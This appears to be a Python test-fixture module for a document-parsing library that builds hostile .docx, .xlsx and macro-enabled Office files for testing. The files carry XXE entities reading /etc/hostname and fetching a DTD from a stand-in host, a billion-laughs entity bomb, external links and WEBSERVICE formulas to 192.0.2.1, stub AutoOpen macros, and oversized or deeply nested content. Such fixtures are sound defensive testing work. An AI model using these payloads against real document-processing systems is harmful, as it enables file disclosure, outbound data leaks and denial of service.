"""Hostile Word and Excel files: entities, links to the outside, macros, depth and width without measure."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import docx
import openpyxl

from petik.samples.hostile.texts import FORMULA, SCRIPT
from petik.samples.paper.frozen import fixed_zip

_HEADER = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = b"http://schemas.openxmlformats.org/package/2006/relationships"
_RELS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
    b"<!ENTITY a%d '%b'>" % (i + 1, b"&a%d;" % i * 10) for i in range(12)
) + b"]>"  # fmt: skip
_OUTSIDE = (
    b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'>"
    b"<!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
)


_BOOK = b"openxmlformats-officedocument."
_MACRO = {  # content types of the main part, without and with macros
    "docm": (_BOOK + b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
    "xlsm": (_BOOK + b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
}


def _docx() -> bytes:
    container = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("PERJANJIAN KINERJA TAHUN 2021")
    document.save(container)
    return container.getvalue()


def _xlsx() -> bytes:
    container = io.BytesIO()
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
    book.save(container)
    return container.getvalue()


def with_parts(package: bytes, replaced: Mapping[str, bytes]) -> bytes:
    """The package with these parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        return fixed_zip({**{name: old.read(name) for name in old.namelist()}, **replaced})


def part_of(package: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name)


def _body(content: bytes, dtd: bytes = b"") -> bytes:
    """word/document.xml."""
    return b'%b%b<w:document xmlns:w="%b" xmlns:r="%b"><w:body>%b</w:body></w:document>' % (
        _HEADER, dtd, _WORD, _RELS, content,
    )  # fmt: skip


def _paragraph(content: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % content


def _sheet(content: bytes, dtd: bytes = b"") -> bytes:
    """xl/worksheets/sheet1.xml."""
    return b'%b%b<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (_HEADER, dtd, _SHEET, content)


def _cell(content: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % content


def _relations(package: bytes, name: str, surplus: bytes) -> bytes:
    return part_of(package, name).replace(b"</Relationships>", surplus + b"</Relationships>")


def _outside_word(word: bytes) -> bytes:
    """A template, a picture and a link that lie on the net."""
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    surplus = b"".join(
        b'<Relationship Id="rM%d" Type="%b%b" Target="http://192.0.2.1/%b" TargetMode="External"/>' % (i, kind, n, n)
        for i, n in enumerate((b"attachedTemplate", b"image", b"hyperlink", b"header"))
    )
    shape = b'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
    picture = b"<w:p><w:r><w:pict>" + shape + b"</w:pict></w:r></w:p>"
    content = _paragraph(b"PERJANJIAN KINERJA") + picture
    name = "word/_rels/document.xml.rels"
    return with_parts(word, {name: _relations(word, name, surplus), "word/document.xml": _body(content)})


def _outside_excel(excel: bytes) -> bytes:
    """Cells that ask another workbook and the net."""
    fraction = b'<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>dari luar</v></c>'
    fraction += b'<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>jaringan</v></c></row>'
    name = "xl/_rels/workbook.xml.rels"
    surplus = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _RELS
    link = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
    outside = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _RELS
    package = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_HEADER, _PACKAGE, outside)
    return with_parts(excel, {
        "xl/worksheets/sheet1.xml": _sheet(fraction),
        name: _relations(excel, name, surplus),
        "xl/externalLinks/externalLink1.xml": link % (_HEADER, _SHEET, _RELS),
        "xl/externalLinks/_rels/externalLink1.xml.rels": package,
    })  # fmt: skip


def word_document(content: bytes) -> bytes:
    """A Word document with this body."""
    return with_parts(_docx(), {"word/document.xml": _body(content)})


def _with_macro(package: bytes, part: str, usual: bytes, macro: bytes) -> bytes:
    kind = part_of(package, "[Content_Types].xml").replace(usual, macro)
    vba = b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    kind = kind.replace(b"</Types>", vba % part.encode() + b"</Types>")
    return with_parts(package, {"[Content_Types].xml": kind, f"{part}/vbaProject.bin": b"Sub AutoOpen() Shell"})


def nested_table(inner: int) -> bytes:
    """So many tables, each within a cell of the one before."""
    opened, closing = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return opened * inner + _paragraph(b"dalam sekali") + closing * inner


_FAR = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def far_sheet() -> bytes:
    """A workbook with a cell in the first and one in the last corner of its sheet."""
    return with_parts(_xlsx(), {"xl/worksheets/sheet1.xml": _sheet(_FAR)})


def laughing_sheet() -> bytes:
    """A workbook whose cell is an entity of entities."""
    return with_parts(_xlsx(), {"xl/worksheets/sheet1.xml": _sheet(_cell(b"&a12;"), LAUGHS)})


def _many_cells(row: int, column: int) -> bytes:
    """Cells of different numbers, so that they do not look like a bomb."""
    one = [b"".join(b"<c><v>%d</v></c>" % (b * 7919 + k) for k in range(column)) for b in range(row)]
    return b"".join(b"<row>%b</row>" % content for content in one)


def make() -> dict[str, bytes]:
    """The hostile Office files by name."""
    word, excel = _docx(), _xlsx()
    body, sheet = "word/document.xml", "xl/worksheets/sheet1.xml"
    text = b"".join(_paragraph(t.replace("&", "&amp;").replace("<", "&lt;").encode()) for t in (SCRIPT, FORMULA))
    merged = _sheet(_FAR).replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    return {
        "xxe.docx": with_parts(word, {body: _body(_paragraph(b"&luar;"), _OUTSIDE)}),
        "tawa.docx": with_parts(word, {body: _body(_paragraph(b"&a12;"), LAUGHS)}),
        "xxe.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"&luar;"), _OUTSIDE)}),
        "tawa.xlsx": laughing_sheet(),
        "tautan_luar.docx": _outside_word(word),
        "tautan_luar.xlsx": _outside_excel(excel),
        "makro.docm": _with_macro(word, "word", *_MACRO["docm"]),
        "makro.xlsm": _with_macro(excel, "xl", *_MACRO["xlsm"]),
        "tabel_bersarang.docx": with_parts(word, {body: _body(nested_table(5_000))}),
        "tabel_dalam_tabel.docx": with_parts(word, {body: _body(nested_table(60))}),
        "teks_panjang.docx": with_parts(word, {body: _body(_paragraph(b"kata demi kata ") * 6_000)}),
        "skrip.docx": with_parts(word, {body: _body(text)}),
        "xml_bersarang.xlsx": with_parts(excel, {sheet: _sheet(b"<a>" * 300_000 + b"</a>" * 300_000)}),
        "sel_jauh.xlsx": far_sheet(),
        "sel_gabung.xlsx": with_parts(excel, {sheet: merged}),
        "sel_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(11_000, 100))}),
        "lembar_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(100, 99))}
                                      | {f"xl/worksheets/{i}.xml": b" " * 9_999_999 for i in range(20)}),
        "sel_kendali.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
        "bom_bagian.docx": with_parts(word, {body: b" " * (40 << 20)}),
    }  # fmt: skip
